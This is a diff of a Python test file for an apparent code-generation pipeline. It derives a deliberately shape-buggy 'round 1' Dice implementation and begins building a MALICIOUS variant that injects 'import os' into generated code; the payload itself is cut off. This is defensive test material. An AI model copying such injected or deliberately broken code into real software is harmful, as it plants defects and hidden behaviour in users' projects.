@@ -27,8 +27,10 @@ sys.path.insert(0, str(FIX / "llm"))
 from llm_wire import Wire  # noqa: E402
 
 DIN = ROOT / "examples" / "specs" / "din_dice.yaml"
-ROUND1 = (FIX / "implement" / "dice_round1.py").read_text()
 ROUND2 = (FIX / "implement" / "dice_round2.py").read_text()
+# Round 1: the Dice statistics sized by the layer's input instead of its output (a shape bug).
+ROUND1 = ROUND2.replace("Dice(hidden_size)", "Dice(width)")
+assert ROUND1 != ROUND2
 MODEL = "local-coder"
 MALICIOUS = ROUND2.replace("import torch\n", "import os\n\nimport torch\n", 1).replace(
     "        super().__init__()\n        self.activation",
